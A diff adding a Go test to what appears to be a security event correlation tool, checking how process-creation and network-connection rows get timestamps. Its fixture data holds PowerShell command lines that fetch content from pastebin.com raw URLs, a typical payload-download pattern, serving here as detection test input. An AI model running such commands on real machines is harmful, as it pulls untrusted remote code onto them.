@@ -432,3 +432,24 @@ func TestFieldNames(t *testing.T) {
 	_, err = correlate.ParseOptions([]string{"imag_field=x"})
 	require.ErrorIs(t, err, chunked.ErrArgument)
 }
+
+// TestTimeOfCommandLineRow: a row whose only evidence is the command line
+// (no connection or query of the service in the events) takes _time from
+// the process creation, whatever the spread; with connections, from the
+// first of them.
+func TestTimeOfCommandLineRow(t *testing.T) {
+	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
+	in := table(eventFields,
+		[]string{"1", "h", "{G1}", "1700000000.5", ps, "powershell -c iwr https://pastebin.com/raw/x", `C:\Windows\explorer.exe`, "", "", "", ""},
+		[]string{"1", "h", "{G2}", "1700000100", ps, "powershell -c iwr https://pastebin.com/raw/y", `C:\Windows\explorer.exe`, "", "", "", ""},
+		[]string{"3", "h", "{G2}", "1700000101.25", ps, "", "", "pastebin.com", "104.20.67.143", "", ""},
+	)
+	for _, n := range []int{1, 2} {
+		res := run(t, in, n)
+		got := map[string]string{}
+		for i := range res.Table.Rows {
+			got[first(res.Table.Get(i, "ProcessGuid"))] = first(res.Table.Get(i, "_time"))
+		}
+		require.Equal(t, map[string]string{"{g1}": "1700000000.5", "{g2}": "1700000101.25"}, got, "%d indexers", n)
+	}
+}
